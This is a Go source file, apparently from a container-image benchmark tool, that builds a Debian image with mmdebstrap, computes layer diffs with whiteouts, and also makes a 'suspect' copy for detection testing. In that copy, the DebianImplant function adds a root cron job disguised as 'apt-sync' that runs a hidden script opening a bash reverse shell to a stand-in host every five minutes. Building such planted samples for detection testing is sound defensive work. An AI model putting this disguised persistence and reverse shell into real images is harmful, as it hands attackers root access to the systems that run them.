@@ -1,0 +1,270 @@
+package imagebuild
+
+import (
+	"archive/tar"
+	"crypto/sha256"
+	"errors"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path"
+	"path/filepath"
+	"sort"
+	"strings"
+	"time"
+)
+
+// DebianStage is one layer of the real Debian benchmark image: the packages one install step
+// adds on top of the stages before it.
+type DebianStage struct {
+	Packages  []string
+	CreatedBy string
+}
+
+// DebianStages are the steps of the real Debian benchmark image: bookworm minbase, then
+// successive apt-get installs, each one layer, as a Dockerfile with five steps would make them
+// (about 900 MB and 40,000 files in all).
+var DebianStages = []DebianStage{
+	{[]string{"ca-certificates"}, "/bin/sh -c #(nop) ADD file:mmdebstrap-bookworm-minbase in / "},
+	{[]string{"python3", "perl"}, "RUN /bin/sh -c apt-get install -y python3 perl # buildkit"},
+	{[]string{"git", "gcc", "make", "libc6-dev"}, "RUN /bin/sh -c apt-get install -y git gcc make libc6-dev # buildkit"},
+	{[]string{"openssh-server", "nginx"}, "RUN /bin/sh -c apt-get install -y openssh-server nginx # buildkit"},
+	{[]string{"nodejs", "npm"}, "RUN /bin/sh -c apt-get install -y nodejs npm # buildkit"},
+}
+
+// ErrNoDebian says the real Debian image cannot be built here: mmdebstrap is missing or could
+// not reach Debian's mirror.
+var ErrNoDebian = errors.New("the real Debian image needs mmdebstrap and Debian's mirror")
+
+// DebianImplant is the small extra layer of the suspect copy of the Debian image: a cron job
+// that opens a reverse shell and the script it runs.
+func DebianImplant() Layer {
+	return Layer{CreatedBy: "RUN /bin/sh -c install -m 0755 /tmp/sync /usr/local/bin/.sync # buildkit", Files: []File{
+		Dir("etc"), Dir("etc/cron.d"),
+		Reg("etc/cron.d/apt-sync", "*/5 * * * * root /usr/local/bin/.sync >/dev/null 2>&1\n").WithMode(0o644),
+		Dir("usr"), Dir("usr/local"), Dir("usr/local/bin"),
+		Reg("usr/local/bin/.sync", "#!/bin/sh\nH=203.0.113.45\nP=4444\nbash -i >& /dev/tcp/$H/$P 0>&1\n").WithMode(0o755),
+	}}
+}
+
+// CachedDebian returns the OCI layouts of the real Debian benchmark image (DebianStages, one
+// gzip layer each) and of a suspect copy with DebianImplant as a sixth layer, building them
+// once under dir with mmdebstrap. It returns ErrNoDebian (wrapped) when they cannot be built.
+func CachedDebian(dir string) (original, suspect string, err error) {
+	base := filepath.Join(dir, "debian-5L")
+	original, suspect = filepath.Join(base, "original"), filepath.Join(base, "suspect")
+	if _, err := os.Stat(filepath.Join(suspect, "index.json")); err == nil {
+		return original, suspect, nil
+	}
+	if _, err := exec.LookPath("mmdebstrap"); err != nil {
+		return "", "", fmt.Errorf("%w: mmdebstrap is not installed", ErrNoDebian)
+	}
+	work := filepath.Join(base, "work")
+	if err := os.MkdirAll(work, 0o755); err != nil {
+		return "", "", err
+	}
+	defer os.RemoveAll(work)
+	stages, err := debianStages(work)
+	if err != nil {
+		return "", "", err
+	}
+	layers := make([]Layer, len(stages))
+	for i := range stages {
+		prev := ""
+		if i > 0 {
+			prev = stages[i-1]
+		}
+		raw, err := LayerDiff(prev, stages[i])
+		if err != nil {
+			return "", "", fmt.Errorf("making layer %d: %w", i, err)
+		}
+		layers[i] = Layer{Raw: raw, Compression: Gzip, CreatedBy: DebianStages[i].CreatedBy,
+			Created: time.Date(2026, 1, 10, 12, i, 0, 0, time.UTC)}
+	}
+	for _, name := range []string{"original", "suspect"} {
+		img := Image{Tags: []string{"strata-bench/debian:" + name}, Created: time.Date(2026, 1, 10, 13, 0, 0, 0, time.UTC),
+			Config: Config{Env: []string{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}, Cmd: []string{"bash"}},
+			Layers: layers}
+		if name == "suspect" {
+			img.Layers = append(append([]Layer(nil), layers...), DebianImplant())
+		}
+		blobs := filepath.Join(work, "blobs-"+name)
+		if err := os.MkdirAll(blobs, 0o755); err != nil {
+			return "", "", err
+		}
+		built, err := BuildTo(img, blobs)
+		if err != nil {
+			return "", "", err
+		}
+		out := filepath.Join(base, name)
+		os.RemoveAll(out + ".tmp")
+		if err := WriteOCILayout(out+".tmp", built); err != nil {
+			return "", "", err
+		}
+		os.RemoveAll(out)
+		if err := os.Rename(out+".tmp", out); err != nil {
+			return "", "", err
+		}
+	}
+	return original, suspect, nil
+}
+
+// debianStages runs mmdebstrap once, installing DebianStages one after the other in the chroot,
+// and returns a tar of the root filesystem after each stage.
+func debianStages(work string) ([]string, error) {
+	var args []string
+	var pkgs []string
+	var out []string
+	for i, st := range DebianStages {
+		tarPath := filepath.Join(work, fmt.Sprintf("stage%d.tar", i+1))
+		out = append(out, tarPath)
+		if i == 0 {
+			pkgs = st.Packages
+		} else {
+			args = append(args, "--customize-hook=chroot \"$1\" sh -c 'DEBIAN_FRONTEND=noninteractive apt-get install -y -q "+
+				strings.Join(st.Packages, " ")+" >/dev/null 2>&1'")
+		}
+		// The hooks run with /proc, /sys and /dev mounted and downloaded packages cached: none
+		// of that is part of an image.
+		args = append(args, "--customize-hook=tar --numeric-owner --one-file-system --exclude=./proc/* --exclude=./sys/* "+
+			"--exclude=./dev/* --exclude=./var/cache/apt/archives/*.deb --exclude=./var/cache/apt/*.bin -C \"$1\" -cf "+tarPath+" .")
+	}
+	args = append([]string{"--variant=minbase", "--include=" + strings.Join(pkgs, ",")}, args...)
+	args = append(args, "bookworm", "/dev/null")
+	cmd := exec.Command("mmdebstrap", args...)
+	if b, err := cmd.CombinedOutput(); err != nil {
+		tail := string(b)
+		if len(tail) > 2000 {
+			tail = tail[len(tail)-2000:]
+		}
+		return nil, fmt.Errorf("%w: mmdebstrap: %v\n%s", ErrNoDebian, err, tail)
+	}
+	return out, nil
+}
+
+// tarKey is what a tar entry is, for telling whether a stage changed it.
+type tarKey struct {
+	typ           byte
+	mode          int64
+	uid, gid      int
+	size          int64
+	link          string
+	mtime         int64
+	sum           [32]byte
+	major, minor  int64
+	xattrs, paxes string
+}
+
+func keyOf(h *tar.Header, r io.Reader) (tarKey, error) {
+	k := tarKey{typ: h.Typeflag, mode: h.Mode, uid: h.Uid, gid: h.Gid, size: h.Size, link: h.Linkname,
+		mtime: h.ModTime.Unix(), major: h.Devmajor, minor: h.Devminor}
+	if h.Typeflag == tar.TypeReg {
+		s := sha256.New()
+		if _, err := io.Copy(s, r); err != nil {
+			return k, err
+		}
+		copy(k.sum[:], s.Sum(nil))
+	}
+	return k, nil
+}
+
+func entryName(name string) string { return strings.TrimPrefix(path.Clean("/"+name), "/") }
+
+// LayerDiff returns the layer that turns the root filesystem in the tar lower ("" for none)
+// into the one in upper, as a container builder commits it: every entry that is new or
+// changed, the targets of hard links it holds, and a whiteout for each removed path whose
+// parent is still there.
+func LayerDiff(lower, upper string) ([]byte, error) {
+	prev := map[string]tarKey{}
+	if lower != "" {
+		if err := eachEntry(lower, func(h *tar.Header, r io.Reader) error {
+			k, err := keyOf(h, r)
+			prev[entryName(h.Name)] = k
+			return err
+		}); err != nil {
+			return nil, err
+		}
+	}
+	// First pass: which entries the layer holds, and which hard link targets they need.
+	keep := map[string]bool{}
+	seen := map[string]bool{}
+	if err := eachEntry(upper, func(h *tar.Header, r io.Reader) error {
+		name := entryName(h.Name)
+		seen[name] = true
+		k, err := keyOf(h, r)
+		if err != nil {
+			return err
+		}
+		if old, ok := prev[name]; !ok || old != k {
+			keep[name] = true
+			if h.Typeflag == tar.TypeLink {
+				keep[entryName(h.Linkname)] = true
+			}
+		}
+		return nil
+	}); err != nil {
+		return nil, err
+	}
+	var b bytesBuffer
+	tw := tar.NewWriter(&b)
+	if err := eachEntry(upper, func(h *tar.Header, r io.Reader) error {
+		if !keep[entryName(h.Name)] {
+			return nil
+		}
+		if err := tw.WriteHeader(h); err != nil {
+			return err
+		}
+		_, err := io.Copy(tw, r)
+		return err
+	}); err != nil {
+		return nil, err
+	}
+	var gone []string
+	for name := range prev {
+		if !seen[name] && name != "" && seen[path.Dir(name)] || !seen[name] && path.Dir(name) == "." {
+			gone = append(gone, name)
+		}
+	}
+	sort.Strings(gone)
+	for _, name := range gone {
+		wh := path.Join(path.Dir(name), ".wh."+path.Base(name))
+		if err := tw.WriteHeader(&tar.Header{Name: wh, Typeflag: tar.TypeReg, Mode: 0o644, ModTime: time.Unix(0, 0)}); err != nil {
+			return nil, err
+		}
+	}
+	if err := tw.Close(); err != nil {
+		return nil, err
+	}
+	return b.Bytes(), nil
+}
+
+func eachEntry(p string, fn func(h *tar.Header, r io.Reader) error) error {
+	f, err := os.Open(p)
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	tr := tar.NewReader(f)
+	for {
+		h, err := tr.Next()
+		if err == io.EOF {
+			return nil
+		}
+		if err != nil {
+			return fmt.Errorf("%s: %w", p, err)
+		}
+		if entryName(h.Name) == "" {
+			continue
+		}
+		if err := fn(h, tr); err != nil {
+			return fmt.Errorf("%s: %s: %w", p, h.Name, err)
+		}
+	}
+}
+
+// bytesBuffer is a growing byte slice writer (bytes.Buffer without the reading half).
+type bytesBuffer struct{ b []byte }
+
+func (w *bytesBuffer) Write(p []byte) (int, error) { w.b = append(w.b, p...); return len(p), nil }
+func (w *bytesBuffer) Bytes() []byte               { return w.b }
